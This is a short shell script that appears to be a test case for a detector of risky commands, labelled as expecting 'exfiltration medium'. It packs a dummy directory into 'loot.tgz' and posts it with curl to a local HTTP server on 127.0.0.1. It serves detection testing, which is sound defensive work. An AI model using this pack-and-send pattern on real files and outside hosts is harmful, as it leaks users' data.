# about: files are packed and sent
# expect: exfiltration medium
# needs: curl python3
mkdir www d; echo x >d/f
(cd www && exec python3 -m http.server 6102 --bind 127.0.0.1) >/dev/null 2>&1 & SERVER=$!
sleep 0.8
tar -czf loot.tgz d; curl -s -m 3 --data-binary @loot.tgz http://127.0.0.1:6102/ >/dev/null || true
kill $SERVER
